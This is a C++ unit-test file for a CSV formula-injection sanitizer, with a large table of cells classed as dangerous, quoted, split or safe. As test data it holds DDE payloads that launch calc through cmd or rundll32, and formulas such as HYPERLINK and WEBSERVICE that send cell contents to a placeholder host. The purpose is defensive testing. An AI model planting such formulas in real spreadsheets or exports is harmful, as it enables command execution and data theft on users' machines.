#include "core/sanitize.hpp"

#include <gtest/gtest.h>

#include <string>
#include <string_view>
#include <vector>

namespace rowhouse::csv {

namespace {

using namespace std::string_view_literals;

struct sanitize_case {
    std::string_view text;
    cell_class wanted;
    cell_type type = cell_type::text;
};

constexpr auto danger = cell_class::danger;
constexpr auto quote = cell_class::quote;
constexpr auto split = cell_class::split;
constexpr auto safe = cell_class::safe;

// \u escapes are written as UTF-8 bytes where the compiler does not take them (controls, U+0000).
const sanitize_case sanitize_cases[] = {
    // plain formulas
    {"=1+1", danger},
    {"+1+1", danger},
    {"-1+1", danger},
    {"@SUM(1,1)", danger},
    {"=2+5+cmd|' /C calc'!A0", danger},
    {"=cmd|'/C calc'!A0", danger},
    {"+cmd|'/C calc'!A0", danger},
    {"-cmd|'/C calc'!A0", danger},
    {"@SUM(1+1)*cmd|' /C calc'!A0", danger},
    {"-2+3+cmd|' /C calc'!A0", danger},
    // obfuscated
    {"=         cmd|'/c calc.exe'!A", danger},
    {"=rundll32|'URL.dll,OpenURL calc.exe'!A", danger},
    {"=1+1\";=1+1", danger},
    {"=1+1\nx", danger},
    {"=1+1\r", danger},
    // exfiltration
    {"=HYPERLINK(\"http://x.invalid/?\"&A1,\"ok\")", danger},
    {"=WEBSERVICE(\"http://x.invalid\")", danger},
    {"=IMPORTXML(\"http://x.invalid\",\"//a\")", danger},
    {"=IMAGE(\"http://x.invalid/\"&A1)", danger},
    // hidden prefix
    {" =1+1", danger},
    {"\u00a0=1+1", danger},
    {"\u3000=1+1", danger},
    {"\u200b=1+1", danger},
    {"\ufeff=1+1", danger},
    {"\t=1+1", danger},
    {"\r=1+1", danger},
    {"\n=1+1", danger},
    {"\x0b=1+1", danger},
    {"\0=1+1"sv, danger},
    {"\u202e=1+1", danger},
    // full-width and small forms
    {"\uff1d1+1", danger},
    {"\uff0b1+1", danger},
    {"\uff0d1+1", danger},
    {"\uff20SUM(1,1)", danger},
    {"\ufe661+1", danger},
    {"\ufe621+1", danger},
    {"\ufe631+1", danger},
    {"\ufe6bSUM(1)", danger},
    {"\u207c1+1", danger},
    {"\u208c1", danger},
    {"\u207a1+1", danger},
    {"\u208a1+1", danger},
    {"\u2a75 1", danger},
    {"\ufb291+1", danger},
    // typed and odd
    {"+1-1", danger},
    {"+1-1", danger, cell_type::phone},
    {"+1-555-123-4567", danger},
    {"-1-2", danger},
    {"=", danger},
    {"==", danger},
    {"=foo", danger},
    {"=1+1", danger, cell_type::header},
    {"=1+1", danger, cell_type::phone},
    {"=1+1", danger, cell_type::number},
    {"=cmd|'/Ccalc'!A0@example.com", danger, cell_type::email},
    // expressions behind a sign
    {"-A1+B2", danger},
    {"+Sheet2!A1", danger},
    {"+'Sheet 2'!A1", danger},
    {"-LOG10(5)", danger},
    {"+NORM.DIST(1)", danger},
    {"-(1+1)", danger},
    {"+\"a\"&A1", danger},
    {"--1+1", danger},
    {"-=1", danger},
    {"-50%+1", danger},
    {"-foo;=1+1", danger},
    {"+15551234567;=1+1", danger, cell_type::phone},
    {"+SOMME\u00c9(1)", danger},
    // neutralised without a flag
    {"-", quote},
    {"--", quote},
    {"---", quote},
    {"- bullet", quote},
    {"-foo", quote},
    {"+foo", quote},
    {"-A1", quote},
    {"@handle", quote},
    {"@", quote},
    {"\t", quote},
    {"\tname", quote},
    {"-5\n", quote},
    {"|calc", quote},
    {"%0A=1", quote},
    {";=1+1", quote},
    {"\uff5ccalc", quote},
    {"\u037e=1", quote},
    {"-and/or", quote},
    // not finished: the next cell of the line could make a formula of it
    {"thanks; -", quote},
    {"thanks; -1+", quote},
    {"thanks, \" -", quote},
    {"thanks; -'\\\\host\\share\\[book.xls]s", quote},
    {"thanks; -\"", quote},
    {"+tag@example.com", quote, cell_type::email},
    {"-x@example.com", quote, cell_type::email},
    {"+1-555-123-4567", quote, cell_type::phone},
    {"+44 20 7183 8750", quote, cell_type::phone},
    {"+49 (0)151 123456", quote, cell_type::phone},
    // a formula behind a separator
    {"a;=1+1", split},
    {"a;=1+1;b", split},
    {"a,=1+1", split},
    {"a\t=1+1", split},
    {"a|=1+1", split},
    {"a\n=1+1", split},
    {"a\r\n=1+1", split},
    {"a; =1+1", split},
    {"a;\"=1+1\"", split},
    {"name;-1+1", split},
    {"\uff08a;=1+1", split},
    // numbers
    {"-5", safe},
    {"+5", safe},
    {"-0.02", safe},
    {"-.5", safe},
    {"-1,234.56", safe},
    {"-1.234.567,8", safe},
    {"-12,5", safe},
    {"-1.5E-3", safe},
    {"-50%", safe},
    {"\u22125", safe},
    {"+15551234567", safe},
    {"+15551234567", safe, cell_type::phone},
    {"-5", safe, cell_type::number},
    {"+5", safe, cell_type::number},
    {"-0.02", safe, cell_type::number},
    {"-1,234.56", safe, cell_type::number},
    {"-12,5", safe, cell_type::number},
    {"-1.5E-3", safe, cell_type::number},
    {"-50%", safe, cell_type::number},
    {"\u22125", safe, cell_type::number},
    {"1,-2", safe},
    // text
    {"user+tag@example.com", safe},
    {"a=b", safe},
    {"0=1", safe},
    {"O'Neil", safe},
    {"C++", safe},
    {"1-2", safe},
    {"A1", safe},
    {"TRUE", safe},
    {"2020-01-01", safe},
    {"(555) 123", safe},
    {"\u2013 5", safe},
    {"https://e.com/?a=1&b=-2", safe},
    {"a\"=1+1", safe},
    {"'=1+1", safe},
    {"'-5", safe},
    {" name", safe},
    {"", safe},
    {"DDE (\"cmd\";\"/C calc\";\"!A0\")A0", safe},
    {"thanks, @bob", safe},
    {"minus, -5", safe},
    {"a; -b; c", safe},
    {"see, -bob's", safe},
    {"Items,\n\tfirst:", safe},
};

std::string shown(std::string_view text) {
    std::string out;
    for (const char c : text) {
        if (c >= ' ' && c <= '~') {
            out.push_back(c);
        } else {
            out += "\\" + std::to_string(static_cast<unsigned char>(c));
        }
    }
    return out;
}

TEST(sanitize, classes) {
    for (const sanitize_case& given : sanitize_cases) {
        EXPECT_EQ(to_string(classify(given.text, given.type)), to_string(given.wanted)) << shown(given.text);
    }
}

TEST(sanitize, leaves_safe_text_alone_and_changes_everything_else) {
    for (const sanitize_case& given : sanitize_cases) {
        const std::string result = sanitize(given.text, given.type);
        EXPECT_EQ(result == given.text, given.wanted == safe) << shown(given.text);
    }
}

// What a spreadsheet would see, whole or split by any separator, is no formula any more.
TEST(sanitize, result_is_harmless) {
    for (const sanitize_case& given : sanitize_cases) {
        const std::string result = sanitize(given.text, given.type);
        EXPECT_EQ(classify(result, given.type), safe) << shown(given.text);
        EXPECT_EQ(sanitize(result, given.type), result) << "not stable: " << shown(given.text);
    }
}

TEST(sanitize, puts_apostrophes) {
    EXPECT_EQ(sanitize("=1+1"), "'=1+1");
    EXPECT_EQ(sanitize(" =1+1"), "' =1+1");
    EXPECT_EQ(sanitize("a;=1+1;b"), "a;'=1+1;b");
    EXPECT_EQ(sanitize("=1+1;=2"), "'=1+1;'=2");
    EXPECT_EQ(sanitize("a\n=1\t=2|=3,=4"), "a\n'=1\t'=2|'=3,'=4");
    EXPECT_EQ(sanitize("x;\"=1+1\""), "x;'\"=1+1\"");
    EXPECT_EQ(sanitize("a,-foo"), "a,'-foo");
    EXPECT_EQ(sanitize("+1-555-123-4567", cell_type::phone), "'+1-555-123-4567");
    EXPECT_EQ(sanitize("=1+1", cell_type::header), "'=1+1");
}

// One apostrophe must not make a formula of what stands before it. Found by a fuzzer.
TEST(sanitize, apostrophes_do_not_beget_apostrophes) {
    for (const std::string_view text :
         {"a|\x01+;x\t!\t@"sv, "a|=1;\x01\x02+2,@x\t-y"sv, "a; -1+\t-x"sv, "+\tf@|\x01+;\t!\t@\t\tc"sv}) {
        const std::string once = sanitize(text);
        EXPECT_EQ(classify(once), safe) << shown(text);
        EXPECT_EQ(sanitize(once), once) << shown(text);
    }
}

// An apostrophe inside the text stays; the one at the start comes off again on import.
TEST(sanitize, round_trip) {
    int count = 0;
    for (const sanitize_case& given : sanitize_cases) {
        if (given.text.find_first_of(",;\t|\r\n'") != std::string_view::npos) continue;
        EXPECT_EQ(unsanitize(sanitize(given.text, given.type)), given.text) << shown(given.text);
        ++count;
    }
    EXPECT_GT(count, 80);
}

TEST(sanitize, takes_off_one_apostrophe_that_it_would_have_put) {
    EXPECT_EQ(unsanitize("'=1+1"), "=1+1");
    EXPECT_EQ(unsanitize("''=1+1"), "''=1+1");
    EXPECT_EQ(unsanitize("'-foo"), "-foo");
    EXPECT_EQ(unsanitize("' =1+1"), " =1+1");
    EXPECT_EQ(unsanitize("'-5"), "'-5");
    EXPECT_EQ(unsanitize("'tis"), "'tis");
    EXPECT_EQ(unsanitize("'"), "'");
    EXPECT_EQ(unsanitize(""), "");
}

TEST(sanitize, type_names) {
    for (const std::string_view name : {"text", "number", "email", "phone", "header"}) {
        EXPECT_TRUE(cell_type_from_name(name).has_value()) << name;
    }
    EXPECT_EQ(cell_type_from_name("phone"), cell_type::phone);
    EXPECT_FALSE(cell_type_from_name("Text").has_value());
    EXPECT_FALSE(cell_type_from_name("").has_value());
}

TEST(sanitize, takes_any_bytes) {
    for (const std::string_view text :
         {"\xff=1"sv, "=\xff"sv, "\xe2\x80"sv, "-\xf0\x9f"sv, ";\xc0"sv, ";"sv, "a;"sv, "\0"sv}) {
        EXPECT_GE(sanitize(text).size(), text.size());
    }
}

TEST(sanitize, long_hostile_text_takes_linear_time) {
    constexpr std::size_t size = 1 << 20;
    for (const std::string_view unit :
         {";"sv, ",\t"sv, ";-"sv, "; "sv, "\t"sv, "-"sv, "-1"sv, ";=|"sv, "\n;\""sv, "@("sv}) {
        std::string text;
        while (text.size() < size)
            text.append(unit);
        classify(text);
        EXPECT_GE(sanitize(text).size(), text.size());
    }
}

} // namespace

} // namespace rowhouse::csv
